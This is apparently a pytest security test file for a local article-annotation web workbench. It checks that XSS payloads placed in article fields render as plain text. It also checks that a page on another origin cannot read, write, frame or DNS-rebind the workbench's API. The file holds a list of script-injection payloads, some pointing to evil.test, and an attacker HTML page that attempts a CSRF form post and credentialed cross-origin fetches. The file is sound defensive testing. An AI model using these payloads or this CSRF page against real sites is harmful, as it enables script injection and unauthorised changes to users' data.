"""What files contain stays text on the page, and no other site can use the workbench."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Final

import pytest

from bench_pages import Bench, bench
from geokg.web.workbench import Workbench
from loopback import LoopbackServer, SilentHandler, serving

pytestmark = pytest.mark.slow

PAYLOADS: Final = (
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    '"><svg onload=hit()>',
    "' onfocus='hit()' autofocus='",
    "</textarea><script>hit()</script>",
    "<a href='javascript:hit()'>go</a>",
    "{{hit()}} ${hit()} <%= hit() %>",
    "<iframe srcdoc='<script>hit()</script>'></iframe>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "<style>main{display:none}</style>",
    "<math><mtext><img src=x onerror=hit()></math>",
    "<details open ontoggle=hit()>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><button autofocus>",
    "]]><!--<script>hit()</script>-->",
)
SCREENS: Final = ("folder", "article", "drafts", "yaml")
FORBIDDEN: Final = "main :is(script, img, svg, iframe, style, math, base, meta, object, embed)"


def poisoned(folder: Path) -> None:
    """An article with payloads in its text, title, quotes, names, roles, dates, places and ids."""
    text = "".join(f"Iran met Oman {number} {words}\n" for number, words in enumerate(PAYLOADS))
    values: dict[str, Any] = {
        "geokg": 1,
        "article": {"id": "poison", "title": " ".join(PAYLOADS), "language": "en", "body": text},
        "actors": {f"a-{n}": {"group": words} for n, words in enumerate(PAYLOADS)},
        "claims": [
            {
                "id": f"c-{n}" if n % 2 else words,
                "quote": f"Iran met Oman {n} {words}",
                "type": "meet" if n % 4 else words,
                "party": [f"a-{n}", words],
                "place": words,
                "when": words,
            }
            for n, words in enumerate(PAYLOADS)
        ],
    }
    (folder / "poison.json").write_text(json.dumps(values), encoding="utf-8")
    (folder / "poison.draft.yaml").write_text(json.dumps(values), encoding="utf-8")


def watch(page: Bench) -> None:
    page.view.add_init_script("globalThis.hits = 0; globalThis.hit = () => { hits++; };")
    page.view.reload()


def test_injections_in_every_place_stay_text(browser: Any, tmp_path: Path) -> None:
    poisoned(tmp_path)
    heard: list[str] = []
    with bench(browser, tmp_path, annotator="") as page:
        watch(page)
        for screen in SCREENS:
            page.show(screen, "poison" if screen != "folder" else "")
            heard += page.heard
            assert page.view.locator(FORBIDDEN).count() == 0, screen
        page.show("article", "poison")
        for tab in ("actors", "problems", "claims"):
            page.view.click(f"#tab-{tab}")
            shown = page.view.text_content("#side-list")
            lost = [words for words in PAYLOADS if words not in shown]
            assert lost == [], tab
        for card in range(len(PAYLOADS)):
            page.view.click(f'.card[data-index="{card}"]')
            page.view.wait_for_selector("#problems-party .problem")
            assert page.view.locator(FORBIDDEN).count() == 0
        text = page.view.inner_text(".text")
        hits = page.evaluate("hits")

        assert [words for words in PAYLOADS if words not in text] == []
        assert hits == 0
        assert heard + page.heard == []


ATTACK: Final = """\
<!doctype html><meta charset=utf-8><title>attack</title>
<iframe id=frame src="http://127.0.0.1:{port}/"></iframe>
<form id=form method=post enctype="text/plain" target=sink
  action="http://127.0.0.1:{port}/api/article/note/edit">
  <input name='{{"etag":"","ops":[{{"op":"drop","path":["claims","met"]}}],"x":"' value='"}}'>
</form>
<iframe name=sink></iframe>
<script>
globalThis.tried = (async () => {{
  const at = "http://127.0.0.1:{port}";
  const result = {{}};
  const attempt = async (name, job) => {{
    try {{ result[name] = await job(); }} catch (error) {{ result[name] = "failed"; }}
  }};
  await attempt("read", async () =>
    (await fetch(`${{at}}/api/folder`, {{credentials: "include"}})).status);
  await attempt("write", async () => (await fetch(`${{at}}/api/stop`, {{
    method: "POST", credentials: "include",
    headers: {{"Content-Type": "application/json", "X-Geokg": "1"}}, body: "{{}}"}})).status);
  await attempt("opaque", async () => (await fetch(`${{at}}/api/stop`,
    {{method: "POST", mode: "no-cors", credentials: "include", body: "{{}}"}})).type);
  await attempt("script", () => new Promise((done) => {{
    const made = document.createElement("script");
    made.src = `${{at}}/assets/workbench.js`;
    made.onload = () => done("loaded"); made.onerror = () => done("failed");
    document.head.append(made);
  }}));
  document.getElementById("form").submit();
  await new Promise((done) => setTimeout(done, 300));
  return result;
}})();
</script>
"""


@contextmanager
def attacker(port: int) -> Iterator[LoopbackServer]:
    """Another site, whose page tries what it can with the workbench at a port."""

    class Handler(SilentHandler):
        def get(self) -> None:
            page = ATTACK.format(port=port).encode()
            self.send(200, page, Content_Type="text/html; charset=utf-8")

    with serving(LoopbackServer(Handler)) as server:
        yield server


def test_no_other_site_reads_writes_frames_or_rebinds_the_workbench(
    browser: Any, tmp_path: Path
) -> None:
    file = tmp_path / "note.yaml"
    file.write_text(
        "geokg: 1\narticle: {id: note, body: Iran met Oman.}\nclaims:\n"
        "  - {id: met, quote: Iran met Oman, type: meet, party: [IRN, OMN]}\n",
        encoding="utf-8",
    )
    before = file.read_bytes()
    with Workbench(tmp_path) as server, attacker(server.port) as other:
        context = browser.new_context()
        own = context.new_page()
        own.goto(server.address)
        own.wait_for_selector("#tools button")
        answers: list[tuple[str, int]] = []
        context.on("response", lambda answer: answers.append((answer.url, answer.status)))
        view = context.new_page()
        view.goto(f"http://evil.test:{other.server_port}/")
        tried = view.evaluate("tried")
        framed = view.frames[1].url
        rebound = view.goto(f"http://rebind.test:{server.port}/api/folder")
        status = rebound.status
        own.reload()
        own.wait_for_selector("main a")
        context.close()

    form = [code for url, code in answers if url.endswith("/api/article/note/edit")]
    assert {tried["read"], tried["write"], tried["script"]} == {"failed"}
    assert tried["opaque"] in ("opaque", "failed")
    assert framed.startswith("chrome-error")
    assert status == 403
    assert form == [403]
    assert file.read_bytes() == before


SHAPES: Final = {
    "items": "claims: [null, foo, [a], {quote: Iran met}]\n",
    "values": "claims:\n  - {id: a, quote: Iran met, type: meet, party: [{state: IRN}, [x]],"
    " when: {edtf: 1990}, place: {a: b}, content: [{x: y}], note: [1, 2], claimant: [a, b]}\n",
    "quotes": "claims:\n  - {quote: [], type: meet}\n  - {id: b, quote: {prefix: x}}\n"
    "  - {id: [x], quote: [{exact: Oman}, Iran], type: [meet]}\n",
    "actors": "actors: {iran: IRN, a: null, '.*(': {group: '(a|b)+['}}\nclaims: []\n",
    "mapping": "claims: {a: b}\n",
    "none": "",
}


def test_files_of_any_shape_are_shown_without_an_error_of_the_page(
    browser: Any, tmp_path: Path
) -> None:
    for id, claims in SHAPES.items():
        head = f"geokg: 1\narticle: {{id: {id}, body: Iran met Oman.}}\n"
        (tmp_path / f"{id}.yaml").write_text(head + claims, encoding="utf-8")
    (tmp_path / "broken.yaml").write_text("geokg: [\n", encoding="utf-8")
    with bench(browser, tmp_path, annotator="") as page:
        for key in (*SHAPES, "broken"):
            page.show("yaml", key)
            page.show("article", key)
            for card in range(page.view.locator(".card").count()):
                page.view.locator(".card").nth(card).dispatch_event("click")
                page.view.wait_for_selector(".claim-form")
            page.view.focus(".text")
            page.view.keyboard.press("m")
            for tab in ("actors", "problems"):
                page.view.click(f"#tab-{tab}")

            assert page.heard == [], key
            assert "[object" not in page.view.inner_text("body"), key
